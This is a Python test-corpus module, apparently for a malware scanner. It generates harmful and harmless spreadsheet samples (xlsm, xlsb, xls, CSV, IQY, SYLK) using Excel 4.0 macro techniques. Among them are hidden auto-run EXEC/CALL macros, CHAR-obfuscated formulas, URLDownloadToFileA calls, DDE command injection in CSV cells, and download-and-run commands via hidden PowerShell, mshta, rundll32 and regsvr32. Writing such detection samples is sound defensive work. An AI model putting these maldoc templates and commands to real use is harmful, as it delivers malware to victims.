"""Macros of the kind that Excel had before VBA, in all three forms of a workbook, and tables that start programs."""

from __future__ import annotations

from app.engine.model import Verdict
from tests.corpus.payloads import PS
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File
from tests.unit.engine.test_excel_binary import name as defined_name, stream, workbook
from tests.unit.engine.test_excel_workbook import binary, book, call

#: Numbers of functions: EXEC, REGISTER, CALL; SUM and LEN for twins.
_HARMFUL, _HARMLESS = (110, 149, 150), (4, 32)


def _command(draw: Draw) -> str:
    place = f"C:\\ProgramData\\{draw.word()}"
    return draw.one(
        f"{PS} -w hidden iwr {draw.url('exe')} -o {place}.exe",
        f"mshta {draw.url('hta')}",
        f"rundll32 {place}.ocx,DllRegisterServer",
        f"wmic process call create 'regsvr32 -s {place}.dll'",
    )


def _formulas(draw: Draw) -> list[str]:
    command, url = _command(draw), draw.url("dll")
    letters = "&amp;".join(f"CHAR({ord(letter)})" for letter in command[:40])
    load = f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","C:\\{draw.word()}.dll",0,0)'
    # A quarter each: in clear, by letters, a call into Windows, and all of them put into cells one by one.
    return draw.rng.choice(
        ([f'EXEC("{command}")', "HALT()"], [f"EXEC({letters})"], [load, f'EXEC("{command}")'],
         [f'FORMULA("=EX"&amp;"EC(""{command}"")",A9)', "GOTO(A9)", "RETURN()"])
    )  # fmt: skip


@technique("workbook.macro_sheet", most=Verdict.SUSPICIOUS)
def _xml(draw: Draw, harmful: bool) -> File:
    formulas = _formulas(draw) if harmful else ["SUM(A1:A9)", "LEN(B3)"]
    content = book(*formulas, automatic=True, hidden=harmful, padding=draw.rng.randrange(40))
    return File(f"{draw.stem()}.xlsm", content)


@technique("workbook.macro_sheet_in_binary_records", most=Verdict.SUSPICIOUS)
def _binary(draw: Draw, harmful: bool) -> File:
    functions = _HARMFUL if harmful else _HARMLESS
    cells = [call(draw.rng.choice(functions), _command(draw) if harmful else draw.word())]
    return File(f"{draw.stem()}.xlsb", binary(*cells, automatic=True, hidden=2 if harmful else 0))


@technique("workbook.macro_sheet_of_old", most=Verdict.SUSPICIOUS)
def _old(draw: Draw, harmful: bool) -> File:
    functions = draw.rng.sample(_HARMFUL, 2) if harmful else list(_HARMLESS)
    text = _command(draw)[:200] if harmful else draw.word()
    content = stream(*functions, names=defined_name(builtin=1), hidden=2 if harmful else 0, text=text)
    return File(f"{draw.stem()}.xls", workbook(content))


@technique("workbook.command_in_a_table")
def _table(draw: Draw, harmful: bool) -> File:
    command = (
        f"{draw.one('=', '+', '-', '@')}{draw.one('cmd', 'MSEXCEL', 'rundll32')}|'/c {_command(draw)}'!{draw.word()}"
    )
    ordinary = f"=SUM(B2:B{draw.rng.randrange(5, 99)})"
    rows = [f"{draw.word()};{draw.rng.randrange(999)};{draw.word()}" for _ in range(20)]
    rows.insert(draw.rng.randrange(20), f"total;{command if harmful else ordinary};x")
    return File(f"{draw.stem()}.{draw.one('csv', 'csv', 'tsv')}", "\r\n".join(rows).encode())


@technique("workbook.web_query", most=Verdict.SUSPICIOUS)
def _query(draw: Draw, harmful: bool) -> File:
    url = draw.url("dat") if harmful else "https://www.ecb.europa.eu/stats/rates.html"
    return File(f"{draw.stem()}.iqy", f"WEB\r\n1\r\n{url}\r\n\r\nSelection=1\r\nFormatting=None\r\n".encode())


@technique("workbook.symbolic_link")
def _symbolic(draw: Draw, harmful: bool) -> File:
    formula = f'EEXEC("{_command(draw)}")' if harmful else "ESUM(R1C1:R9C1)"
    rows = ["ID;P", "O;E" if harmful else "F;W1 1 10", f'C;Y1;X1;K"{draw.word()}"']
    rows += ["NN;NAuto_open;ER101C1;KOut Flank;F", f"C;X1;Y101;K0;{formula}"] if harmful else [f"C;X1;Y9;K5;{formula}"]
    return File(
        f"{draw.stem()}.slk", "\r\n".join([*rows, "C;X1;Y102;K0;EHALT()" if harmful else "E", "E", ""]).encode()
    )
